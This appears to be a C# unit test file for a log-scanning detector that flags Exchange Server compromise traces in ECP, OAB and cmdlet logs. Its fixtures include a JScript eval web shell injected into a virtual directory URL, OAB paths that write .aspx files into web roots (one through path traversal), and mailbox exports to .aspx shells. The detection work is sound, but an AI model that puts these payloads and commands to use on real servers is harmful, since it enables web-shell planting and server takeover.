using Exir.Core.Findings;
using Exir.Detection.Logs;
using Exir.Logs;
using static Exir.Detection.Tests.LogsTestKit;

namespace Exir.Detection.Tests;

public class LogsEcpOabTests
{
    private const string EcpPath = "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer2021030300-1.LOG";
    private const string OabPath = "Program Files/Microsoft/Exchange Server/V15/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG";

    private static string EcpLine(string eventData, string time = "05:13:10.120") =>
        $"2021-03-03T{time}Z,EXCH01,ECP.Request,{Csv(eventData)}\r\n";

    [Fact]
    public void ScriptInAVirtualDirectoryUrlIsExtracted()
    {
        const string payload = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123\"],\"unsafe\");}</script>";
        var run = Scan(LogFormat.EcpServer, EcpPath, EcpHeader +
            EcpLine("S:TIME=12;S:SID=abc;S:CMD=Get-OabVirtualDirectory;S:URL=/ecp/DDI/DDIService.svc/GetObject") +
            EcpLine($"S:TIME=31;S:SID=abc;S:CMD=Set-OabVirtualDirectory.Identity='b1a3f1d1-7a1e-4d0b-9a35-2bd6b6f4a6c8'.ExternalUrl='{payload}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:RS=0"));
        var f = run.Single("LOG-ECP-VDIR-PAYLOAD");
        Assert.Equal((Severity.Critical, Outcome.Success), (f.Severity, f.Outcome));
        Assert.Equal("Set-OabVirtualDirectory", f.Details["cmdlet"]);
        Assert.Equal("ExternalUrl", f.Details["parameter"]);
        Assert.Equal(payload, f.Details["payload"]);
        Assert.Equal(7, f.Line);
        Assert.Null(f.ClientIp);
        Assert.Equal("EXCH01", run.Context.Host);
        Assert.Equal(2, run.Coverage.Families["ECP Server"].Lines - 5);
    }

    [Fact]
    public void LegitimateUrlChangeIsNotReported()
    {
        var run = Scan(LogFormat.EcpServer, EcpPath, EcpHeader +
            EcpLine("S:CMD=Set-OwaVirtualDirectory.Identity='EXCH01\\owa (Default Web Site)'.ExternalUrl='https://mail.contoso.com/owa';S:EX=;S:RS=0") +
            EcpLine("S:CMD=Set-OabVirtualDirectory.InternalUrl='https://exch01.contoso.local/OAB'.RequireSSL='True';S:EX="));
        Assert.Empty(run.Findings);
    }

    [Fact]
    public void CommandThatFailedIsOnlyAnAttempt()
    {
        var f = Scan(LogFormat.EcpServer, EcpPath, EcpHeader +
            EcpLine("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://x/<script>eval(1)</script>';S:EX=Microsoft.Exchange.Data.DataValidationException")).Single("LOG-ECP-VDIR-PAYLOAD");
        Assert.Equal(Outcome.Attempt, f.Outcome);
    }

    private static string OabLine(string message, string time = "05:14:02.000") =>
        $"2021-03-03T{time}Z,12,Error,contoso.com,Default Offline Address Book,{Csv(message)}\r\n";

    [Fact]
    public void OabDownloadOutsideTheOabFolderIsAWebShellWrite()
    {
        var run = Scan(LogFormat.OabGenerator, OabPath, OabHeader +
            OabLine(@"Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\8ba1.tmp' needs to be removed.") +
            OabLine(@"Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\discover.aspx' needs to be removed."));
        var f = run.Single("LOG-OAB-FILE-WRITE");
        Assert.Equal((Severity.Critical, Outcome.Success), (f.Severity, f.Outcome));
        Assert.Equal(@"C:\inetpub\wwwroot\aspnet_client\discover.aspx", f.Details["temp_file"]);
        Assert.Equal(7, f.Line);
        Assert.Equal(new DateTimeOffset(2021, 3, 3, 5, 14, 2, TimeSpan.Zero), f.Timestamp);
    }

    [Fact]
    public void ClimbingOutOfTheOabFolderIsNotHidden()
    {
        var f = Scan(LogFormat.OabGenerator, OabPath, OabHeader +
            OabLine(@"Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\..\..\FrontEnd\HttpProxy\owa\auth\x.aspx' needs to be removed.")).Single("LOG-OAB-FILE-WRITE");
        Assert.Equal(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\x.aspx", f.Details["temp_file"]);
        Assert.Equal(Severity.Critical, f.Severity);
    }

    [Fact]
    public void NonDefaultInstallStillPassesForOabTempFiles()
    {
        var run = Scan(LogFormat.OabGenerator, OabPath, OabHeader +
            OabLine(@"Download failed and temporary file 'D:\Exchange\V15\ClientAccess\OAB\Temp\1.tmp' needs to be removed."));
        Assert.Empty(run.Findings);
    }

    [Fact]
    public void MailboxExportToAspxInACmdletLogIsReported()
    {
        // Other Exchange CSV logs are read only for rules that ask for them (here the mailbox-export rule).
        const string header = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: Rps Cmdlet Logs\r\n#Fields: DateTime,ServerName,CmdletName,Parameters,Result\r\n";
        var run = Scan(LogFormat.OtherExchange, "V15/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Cmdlet_2021081305-1.LOG", header +
            "2021-08-13T05:10:00.000Z,EXCH01,Get-Mailbox,-Identity administrator,Success\r\n" +
            "2021-08-13T05:11:00.000Z,EXCH01,New-MailboxExportRequest," + Csv("-Mailbox administrator@contoso.com -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx") + ",Success\r\n");
        var f = run.Single("LOG-EXCH-MAILBOX-EXPORT-ASPX");
        Assert.Equal(6, f.Line);
        Assert.Equal(@"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x.aspx", f.Details["export_path"]);
        Assert.Contains("Exchange/Rps Cmdlet Logs", run.Coverage.Families.Keys);
    }

    [Fact]
    public void MailboxExportToAspxInAnEcpLogIsReported()
    {
        var run = Scan(LogFormat.EcpServer, EcpPath, EcpHeader +
            EcpLine(@"S:CMD=New-MailboxExportRequest.Mailbox='carol@contoso.com'.FilePath='\\fs01\pst$\carol.pst';S:EX=") +
            EcpLine(@"S:CMD=New-MailboxExportRequest.Mailbox='administrator@contoso.com'.FilePath='\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\rvrd.aspx';S:EX="));
        var f = run.Single("LOG-EXCH-MAILBOX-EXPORT-ASPX");
        Assert.Equal(7, f.Line);
        Assert.Equal(@"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\rvrd.aspx", f.Details["export_path"]);
    }
}
